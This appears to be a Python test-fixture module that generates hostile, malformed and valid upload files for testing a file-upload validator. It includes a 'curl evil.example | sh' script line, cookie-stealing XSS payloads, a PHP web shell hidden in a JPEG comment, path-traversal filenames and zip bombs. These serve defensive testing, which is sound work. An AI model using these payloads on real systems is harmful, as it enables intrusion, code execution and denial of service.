"""A corpus of hostile, broken and valid uploads, made here rather than checked in.

``HOSTILE`` lists files that must be refused (with the message expected) or stored
safely; ``VALID`` lists one small genuine file of every accepted type.  ``build``
writes a case to disk; big cases (bombs, 100,000 entries) are written in pieces.
"""

from __future__ import annotations

import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"

PDF_BYTES = (
    b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
    b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
    b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"
)


@dataclass(frozen=True)
class Case:
    id: str
    filename: str
    write: Callable[[Path], None]
    # A regex the refusal's message must match, or None when the file is stored.
    refused: str | None = None
    media_type: str | None = None
    # What the test must arrange: "clamd", "clamd-down", "limit-1mb".
    needs: str = ""


def _bytes(data: bytes) -> Callable[[Path], None]:
    return lambda path: path.write_bytes(data)


# --- genuine files ----------------------------------------------------------------------


def png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return (struct.pack(">I", len(data)) + kind + data
                + struct.pack(">I", zlib.crc32(kind + data)))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00\xff\x00\x00")
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels)
            + chunk(b"IEND", b""))


def jpeg(payload: bytes = b"") -> bytes:
    app0 = b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    comment = b"\xff\xfe" + struct.pack(">H", len(payload) + 2) + payload if payload else b""
    return (b"\xff\xd8\xff\xe0" + struct.pack(">H", len(app0) + 2) + app0 + comment
            + b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00\xd2\xcf\x20\xff\xd9")


GIF = (b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00"
       b"\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;")


def riff(kind: bytes, body: bytes) -> bytes:
    return b"RIFF" + struct.pack("<I", len(body) + 4) + kind + body


WEBP = riff(b"WEBP", b"VP8L" + struct.pack("<I", 5) + b"\x2f\x00\x00\x00\x00\x00")
WAV = riff(b"WAVE", b"fmt " + struct.pack("<IHHIIHH", 16, 1, 1, 8000, 8000, 1, 8)
           + b"data" + struct.pack("<I", 4) + b"\x80\x80\x80\x80")
MP3 = b"ID3\x03\x00\x00\x00\x00\x00\x00" + b"\xff\xfb\x90\x64" + b"\x00" * 413
MP3_NO_TAG = b"\xff\xfb\x90\x64" + b"\x00" * 413
OGG = b"OggS\x00\x02" + b"\x00" * 20 + b"\x01\x1e\x01vorbis" + b"\x00" * 30


def ftyp(brand: bytes) -> bytes:
    return struct.pack(">I", 24) + b"ftyp" + brand + b"\x00\x00\x02\x00" + brand + b"isom" \
        + struct.pack(">I", 8) + b"mdat"


WEBM = (b"\x1a\x45\xdf\xa3\x9f\x42\x86\x81\x01\x42\xf7\x81\x01\x42\xf2\x81\x04\x42\xf3\x81\x08"
        b"\x42\x82\x84webm\x42\x87\x81\x04\x42\x85\x81\x02")
MKV = WEBM.replace(b"webm", b"mkv\x00")


def zip_of(entries: dict[str, bytes], *, compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    import io

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


CONTENT_TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/"/>'


def ooxml(part: str, extra: dict[str, bytes] | None = None) -> bytes:
    return zip_of({"[Content_Types].xml": CONTENT_TYPES, "_rels/.rels": b"<Relationships/>",
                   part: b"<document/>", **(extra or {})})


def opendocument(mimetype: str) -> bytes:
    import io

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("mimetype", mimetype, compress_type=zipfile.ZIP_STORED)
        archive.writestr("content.xml", b"<office:document-content/>",
                         compress_type=zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def compound_file(stream_name: str) -> bytes:
    """A minimal OLE2 compound file whose directory names one stream."""
    end, free = 0xFFFFFFFE, 0xFFFFFFFF
    header = bytearray(512)
    header[0:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", header, 0x18, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<III", header, 0x2C, 1, 1, 0)  # 1 FAT sector, directory at sector 1
    struct.pack_into("<IIIII", header, 0x38, 4096, end, 0, end, 0)
    struct.pack_into("<109I", header, 0x4C, 0, *([free] * 108))
    fat = struct.pack("<128I", 0xFFFFFFFD, end, *([free] * 126))

    def entry(name: str, kind: int) -> bytes:
        raw = bytearray(128)
        encoded = name.encode("utf-16-le") + b"\x00\x00"
        raw[: len(encoded)] = encoded
        struct.pack_into("<HBB", raw, 0x40, len(encoded), kind, 1)
        struct.pack_into("<III", raw, 0x44, free, free, free)
        struct.pack_into("<I", raw, 0x74, end)
        return bytes(raw)

    directory = entry("Root Entry", 5) + entry(stream_name, 2) + bytes(128 * 2)
    return bytes(header) + fat + directory


# --- hostile files ------------------------------------------------------------------------


PE = (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44
      + struct.pack("<I", 64) + b"This program cannot be run in DOS mode.\r\r\n$" + b"PE\x00\x00")
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 100
MACHO = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01\x03\x00\x00\x00\x02\x00\x00\x00" + b"\x00" * 100
MACHO_FAT = b"\xca\xfe\xba\xbe\x00\x00\x00\x02" + b"\x00" * 100


def write_bomb(path: Path, *, size: int = 64 * 1024 * 1024, name: str = "zeros.bin",
               extra: dict[str, bytes] | None = None) -> None:
    """A zip whose one entry unpacks to ``size`` bytes of zeros (about 1000:1)."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for extra_name, data in (extra or {}).items():
            archive.writestr(extra_name, data)
        with archive.open(name, "w", force_zip64=True) as entry:
            block = bytes(1024 * 1024)
            for _ in range(size // len(block)):
                entry.write(block)


def write_many_entries(path: Path, count: int = 100_000) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as archive:
        for number in range(count):
            archive.writestr(f"f{number}", b"")


def write_nested_bomb(path: Path) -> None:
    inner = path.with_suffix(".inner")
    write_bomb(inner)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as archive:
        archive.write(inner, "photos.zip")
        archive.writestr("readme.txt", b"my photos")
    inner.unlink()


def write_docx_bomb(path: Path) -> None:
    write_bomb(path, name="word/document.xml",
               extra={"[Content_Types].xml": CONTENT_TYPES, "_rels/.rels": b"<Relationships/>"})


def write_docx_with_nested_bomb(path: Path) -> None:
    inner = path.with_suffix(".inner")
    write_bomb(inner)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("word/document.xml", b"<document/>")
        archive.write(inner, "word/embeddings/oleObject1.bin")
    inner.unlink()


def deeply_nested() -> bytes:
    data = zip_of({"note.txt": b"hello"})
    for level in range(4):
        data = zip_of({f"level{level}.zip": data})
    return data


def encrypted_zip() -> bytes:
    data = bytearray(zip_of({"secret.txt": b"hello"}, compression=zipfile.ZIP_STORED))
    # Set the "encrypted" flag in the local header and the central directory record.
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(signature)
        data[at + offset] |= 0x01
    return bytes(data)


def write_oversized_pdf(path: Path) -> None:
    with path.open("wb") as file:
        file.write(PDF_BYTES[:-6])
        for _ in range(3):
            file.write(b"% padding " + b"x" * (1024 * 1024) + b"\n")
        file.write(b"%%EOF\n")


HOSTILE: list[Case] = [
    Case("pe-renamed-pdf", "essay.pdf", _bytes(PE),
         r"^essay\.pdf is a Windows executable, not an accepted file type$"),
    Case("elf-renamed-jpg", "photo.jpg", _bytes(ELF), r"photo\.jpg is a Linux executable"),
    Case("macho-renamed-docx", "report.docx", _bytes(MACHO), r"is a macOS executable"),
    Case("macho-universal-renamed-mp4", "clip.mp4", _bytes(MACHO_FAT),
         r"macOS universal executable"),
    Case("shell-script-txt", "notes.txt", _bytes(b"#!/bin/sh\ncurl evil.example | sh\n"),
         r"notes\.txt is a script"),
    Case("html-with-script", "page.pdf",
         _bytes(b"<!DOCTYPE html><html><script>alert(document.cookie)</script></html>"),
         r"is an HTML page"),
    Case("html-bom-whitespace", "letter.txt",
         _bytes(b"\xef\xbb\xbf \r\n\t<HTML><body onload=alert(1)>"), r"is an HTML page"),
    Case("html-comment-first", "readme.txt",
         _bytes(b"<!-- hi --><script>alert(1)</script>"), r"is an HTML page"),
    Case("svg-with-script", "logo.png",
         _bytes(b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
         r"is an SVG image"),
    Case("svg-with-xml-declaration", "chart.png",
         _bytes(b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" '
                b'onload="alert(1)"/>'), r"is an SVG image"),
    Case("xml-document", "data.txt", _bytes(b'<?xml version="1.0"?><data/>'),
         r"is an XML document"),
    Case("html-then-pdf-polyglot", "paper.pdf",
         _bytes(b"<html><script>alert(1)</script><!--\n" + PDF_BYTES + b"-->"),
         r"is an HTML page"),
    Case("pdf-then-html-polyglot", "polyglot.pdf",
         _bytes(PDF_BYTES[:-6] + b"<html><script>alert(1)</script></html>\n%%EOF\n"),
         media_type="application/pdf"),
    Case("gif-javascript-polyglot", "pixel.gif",
         _bytes(b"GIF89a/*\x01\x00\x01\x00\x00\x00\x00*/=1;alert(document.domain);//;"),
         media_type="image/gif"),
    Case("jpeg-with-php", "avatar.jpg",
         _bytes(jpeg(b"<?php system($_GET['c']); ?>")), media_type="image/jpeg"),
    Case("zero-bytes", "empty.pdf", _bytes(b""), r"^empty\.pdf is empty$"),
    Case("truncated-pdf-header", "cut.pdf", _bytes(b"%PDF-1"), r"damaged PDF"),
    Case("pdf-without-end", "half.pdf", _bytes(PDF_BYTES[:60]), r"incomplete PDF"),
    Case("name-with-dotdot", "../../../etc/passwd", _bytes(b"root:x:0:0:root:/root\n"),
         media_type="text/plain"),
    Case("name-with-nul", "evidence\x00.exe.pdf", _bytes(PDF_BYTES),
         media_type="application/pdf"),
    Case("name-very-long", "a" * 5000 + ".pdf", _bytes(PDF_BYTES + b"% long\n"),
         media_type="application/pdf"),
    Case("name-rtl-override", "invoice\u202egnp.exe", _bytes(png()), media_type="image/png"),
    Case("zip-bomb", "archive.zip", write_bomb, r"zip bomb"),
    Case("zip-100k-entries", "many.zip", write_many_entries, r"100,000 entries"),
    Case("nested-zip-bomb", "photos.zip", write_nested_bomb, r"zip bomb"),
    Case("zip-nested-too-deep", "deep.zip", _bytes(deeply_nested()), r"nested more than"),
    Case("docx-bomb", "cv.docx", write_docx_bomb, r"zip bomb"),
    Case("docx-with-nested-bomb", "thesis.docx", write_docx_with_nested_bomb, r"zip bomb"),
    Case("damaged-zip", "broken.zip", _bytes(b"PK\x03\x04" + b"\x00" * 200),
         r"damaged zip archive"),
    Case("encrypted-zip", "locked.zip", _bytes(encrypted_zip()), r"password-protected"),
    Case("docx-with-macros", "macro.docx",
         _bytes(ooxml("word/document.xml", {"word/vbaProject.bin": b"\x00" * 64})),
         r"with macros"),
    Case("java-archive", "tool.zip",
         _bytes(zip_of({"META-INF/MANIFEST.MF": b"Main-Class: A\n", "A.class": b"\xca\xfe"})),
         r"Java program"),
    Case("compound-file-installer", "setup.doc", _bytes(compound_file("\u4840\u3b3f")),
         r"not a Word, Excel or PowerPoint document"),
    Case("utf16-text", "notes.txt", _bytes("hi there".encode("utf-16")), r"UTF-16 text"),
    Case("terminal-escapes", "log.txt", _bytes(b"ok\x1b]0;pwned\x07\n"),
         r"not an accepted file type \(accepted:"),
    Case("random-binary", "data.pdf", _bytes(b"\x00\x01\x02\x03" * 64),
         r"data\.pdf is not an accepted file type"),
    Case("heic-photo", "IMG_0001.HEIC", _bytes(ftyp(b"heic")), r"HEIC"),
    Case("matroska", "movie.mp4", _bytes(MKV), r"Matroska"),
    Case("gzip", "logs.zip", _bytes(b"\x1f\x8b\x08\x00" + b"\x00" * 20), r"gzip archive"),
    Case("eicar", "eicar.txt", _bytes(EICAR), r"virus scanner found Eicar-Test-Signature",
         needs="clamd"),
    Case("clamd-down", "clean.pdf", _bytes(PDF_BYTES), r"virus scanner is not available",
         needs="clamd-down"),
    Case("oversized", "huge.pdf", write_oversized_pdf, r"larger than the limit of 1 MB",
         needs="limit-1mb"),
]

VALID: list[Case] = [
    Case("pdf", "a.pdf", _bytes(PDF_BYTES), media_type="application/pdf"),
    Case("png", "a.png", _bytes(png()), media_type="image/png"),
    Case("jpeg", "a.jpg", _bytes(jpeg()), media_type="image/jpeg"),
    Case("gif", "a.gif", _bytes(GIF), media_type="image/gif"),
    Case("webp", "a.webp", _bytes(WEBP), media_type="image/webp"),
    Case("mp3", "a.mp3", _bytes(MP3), media_type="audio/mpeg"),
    Case("mp3-without-tag", "b.mp3", _bytes(MP3_NO_TAG), media_type="audio/mpeg"),
    Case("wav", "a.wav", _bytes(WAV), media_type="audio/wav"),
    Case("ogg", "a.ogg", _bytes(OGG), media_type="audio/ogg"),
    Case("m4a", "a.m4a", _bytes(ftyp(b"M4A ")), media_type="audio/mp4"),
    Case("mp4", "a.mp4", _bytes(ftyp(b"isom")), media_type="video/mp4"),
    Case("mov", "a.mov", _bytes(ftyp(b"qt  ")), media_type="video/quicktime"),
    Case("webm", "a.webm", _bytes(WEBM), media_type="video/webm"),
    Case("text", "a.txt", _bytes("Reflective account — café, naïve, 日本語\n".encode()),
         media_type="text/plain"),
    Case("text-with-bom", "b.txt", _bytes(b"\xef\xbb\xbfplain <b>not</b> html at the start\n"),
         media_type="text/plain"),
    Case("zip", "a.zip", _bytes(zip_of({"notes.txt": b"hello", "inner.zip": zip_of(
        {"x.txt": b"x"})})), media_type="application/zip"),
    Case("empty-zip", "e.zip", _bytes(zip_of({})), media_type="application/zip"),
    Case("docx", "a.docx", _bytes(ooxml("word/document.xml")),
         media_type="application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    Case("xlsx", "a.xlsx", _bytes(ooxml("xl/workbook.xml")),
         media_type="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    Case("pptx", "a.pptx", _bytes(ooxml("ppt/presentation.xml")),
         media_type="application/vnd.openxmlformats-officedocument.presentationml.presentation"),
    Case("odt", "a.odt", _bytes(opendocument("application/vnd.oasis.opendocument.text")),
         media_type="application/vnd.oasis.opendocument.text"),
    Case("ods", "a.ods", _bytes(opendocument("application/vnd.oasis.opendocument.spreadsheet")),
         media_type="application/vnd.oasis.opendocument.spreadsheet"),
    Case("doc", "a.doc", _bytes(compound_file("WordDocument")), media_type="application/msword"),
    Case("xls", "a.xls", _bytes(compound_file("Workbook")), media_type="application/vnd.ms-excel"),
    Case("ppt", "a.ppt", _bytes(compound_file("PowerPoint Document")),
         media_type="application/vnd.ms-powerpoint"),
]


def build(case: Case, folder: Path) -> Path:
    """Write ``case`` into ``folder`` (once) and return its path."""
    path = folder / f"{case.id}.bin"
    if not path.exists():
        case.write(path)
    return path
